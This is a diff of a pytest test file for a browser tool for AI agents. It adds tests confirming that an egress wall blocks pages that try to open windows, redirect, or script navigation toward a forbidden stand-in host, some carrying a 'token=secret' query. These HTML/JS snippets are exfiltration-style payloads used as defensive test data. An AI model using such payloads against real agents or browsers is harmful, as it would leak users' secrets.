@@ -15,6 +15,7 @@ import trio
 from playwright.async_api import Error
 
 from agentbrowser.browser import contexts, launch, wall
+from agentbrowser.browser.discover import find_browser
 from agentbrowser.client import Browser
 from agentbrowser.config import Config
 from agentbrowser.errors import (
@@ -27,6 +28,7 @@ from agentbrowser.errors import (
 from agentbrowser.registry import Scope
 from agentbrowser.server.app import Server, open_server
 from tests.browser.forbidden import Forbidden, Origin, open_origin
+from tests.browser.hearing import hearing
 from tests.browser.site import Site
 from tests.browser.ways_out import ALONE, HEADERS, MARKUP, MUTE, PROLOGUE, SCRIPT, SILENT, Way
 from tests.loop.doorway import Zone
@@ -147,19 +149,30 @@ def missing(trials: Trials) -> set[str]:
     return {way.name for way in WAYS if not trials.tried(way)}
 
 
-async def test_no_way_leads_past_the_wall() -> None:
+@pytest.fixture(params=["headless shell", "full"])
+def chromium(request: pytest.FixtureRequest) -> Config:
+    """The settings for each kind of Chromium that there is: the full one knows more ways."""
+    if request.param != "full":
+        return CONFIG
+    try:
+        return attrs.evolve(CONFIG, executable_path=find_browser("chromium", headless=False).path)
+    except BrowserNotLaunched:
+        pytest.skip("there is no full Chromium: agentbrowser install --full")
+
+
+async def test_no_way_leads_past_the_wall(chromium: Config) -> None:
     with trio.fail_after(LIMIT_S):
-        async with open_trials(CONFIG, walled=True) as (trials, _):
+        async with open_trials(chromium, walled=True) as (trials, _):
             await trials.run()
             forbidden = trials.site.forbidden
             assert missing(trials) <= MUTE
             assert (forbidden.connections, forbidden.datagrams, forbidden.reached) == (0, 0, set())
 
 
-async def test_without_the_wall_they_all_lead_there(monkeypatch: pytest.MonkeyPatch) -> None:
+async def test_without_the_wall_they_all_lead_there(chromium: Config, monkeypatch: pytest.MonkeyPatch) -> None:
     take_down_the_wall(monkeypatch)
     with trio.fail_after(LIMIT_S):
-        async with open_trials(attrs.evolve(CONFIG, private_network="allow"), walled=False) as (trials, server):
+        async with open_trials(attrs.evolve(chromium, private_network="allow"), walled=False) as (trials, server):
             await trials.run()
             assert missing(trials) <= SILENT
             assert not server.egress.ledger.denials
@@ -347,9 +360,11 @@ class Fenced:
     async def click(self, css: str = "#a") -> Any:
         return await self.browser.request("action/click", {"selector": {"type": "css", "value": css}})
 
+    async def pages(self) -> list[str]:
+        return [page["url"] for page in (await self.browser.request("page/list"))["pages"]]
+
     async def place(self) -> str:
-        pages = (await self.browser.request("page/list"))["pages"]
-        return str(pages[0]["url"])
+        return (await self.pages())[0]
 
 
 @pytest.fixture
@@ -384,6 +399,80 @@ async def test_a_click_that_is_refused_says_so_and_the_page_stays(fenced: Fenced
     # and the page can be used: its next action and navigation succeed
     await fenced.click("#p")
     assert await fenced.visit("again") == await fenced.place()
+
+
+WINDOWS: Final = {
+    "link": '<a id=a target=_blank href="@U">a</a>',
+    "link without opener": '<a id=a target=_blank rel=noopener href="@U">a</a>',
+    "open": "<button id=a onclick=\"window.open('@U?token=secret')\">a</button>",
+    "named": "<button id=a onclick=\"window.open('@U', 'named')\">a</button>",
+    "redirect": "<button id=a onclick=\"window.open('@T302')\">a</button>",
+    "form": '<form target=_blank action="@U"><button id=a>a</button></form>',
+}
+
+
+@pytest.mark.parametrize("way", WINDOWS)
+async def test_a_click_that_opens_a_window_to_where_it_must_not_says_so(fenced: Fenced, way: str) -> None:
+    here = await fenced.visit(Way("x", "").fill(WINDOWS[way], fenced.site.forbidden.port))
+    with pytest.raises(DomainNotAllowed) as caught:
+        await fenced.click()
+    assert caught.value.details["domain"] == "v-x.evil.test"
+    assert caught.value.details["url"].startswith("http://v-x.evil.test:")
+    assert "secret" not in str(caught.value.to_wire())
+    assert await fenced.pages() == [here]
+    assert fenced.site.forbidden.connections == 0
+    assert await fenced.visit("again") == await fenced.place()
+
+
+async def test_a_window_that_opens_empty_and_then_goes_where_it_must_not_is_closed(fenced: Fenced) -> None:
+    leave = "const made = window.open(''); setTimeout(() => made.location = '@U', 50)"
+    here = await fenced.visit(
+        Way("x", "").fill(f'<button id=a onclick="{leave}">a</button>', fenced.site.forbidden.port)
+    )
+    async with hearing(fenced.browser, "page") as ears:
+        (opened,) = (await fenced.click())["newPages"]
+        await ears.until(lambda event: event.type == "close" and event.page_id == opened)
+        (refused,) = ears.all(lambda event: event.type == "error")
+    assert "v-x.evil.test" in refused.reason
+    assert await fenced.pages() == [here]
+    assert fenced.site.forbidden.connections == 0
+
+
+async def test_a_window_that_has_been_somewhere_stays_there(fenced: Fenced) -> None:
+    there = fenced.site.markup("/there", "there")
+    leave = f"const made = window.open('{there}'); setTimeout(() => made.location = '@U', 200)"
+    here = await fenced.visit(
+        Way("x", "").fill(f'<button id=a onclick="{leave}">a</button>', fenced.site.forbidden.port)
+    )
+    denials = fenced.server.egress.ledger.denials
+    (opened,) = (await fenced.click())["newPages"]
+    with trio.fail_after(LIMIT_S):
+        while not any(one.page_id == opened for one in denials):  # noqa: ASYNC110 - nobody tells
+            await trio.sleep(0.01)
+    assert await fenced.pages() == [here, there]
+
+
+async def test_a_script_that_wants_to_go_where_it_must_not_is_told_of(fenced: Fenced) -> None:
+    here = await fenced.visit("here")
+    leave = Way("x", "").fill("location = '@U?token=secret'; 7", fenced.site.forbidden.port)
+    async with hearing(fenced.browser, "page") as ears:
+        assert await evaluate(fenced.browser, leave) == 7
+        (event,) = await ears.until(lambda event: event.type == "error")
+    assert event.page_id == "page-1"
+    assert event.url.startswith("http://v-x.evil.test:")
+    assert "secret" not in str(event)
+    assert await fenced.place() == here
+
+
+async def test_a_page_that_tries_without_end_is_told_of_once_in_a_while(fenced: Fenced) -> None:
+    async with hearing(fenced.browser, "page") as ears:
+        leave = Way("x", "").fill("setInterval(() => location = '@U', 5)", fenced.site.forbidden.port)
+        await fenced.visit(f"<p id=p>x<script>{leave}</script>")
+        denials = fenced.server.egress.ledger.denials
+        with trio.fail_after(LIMIT_S):
+            while len(denials) < 60:  # noqa: ASYNC110 - nobody tells
+                await trio.sleep(0.01)
+        assert 0 < len(ears.all(lambda event: event.type == "error")) < 30
 
 
 async def test_a_navigation_that_is_redirected_out_says_so(fenced: Fenced) -> None:
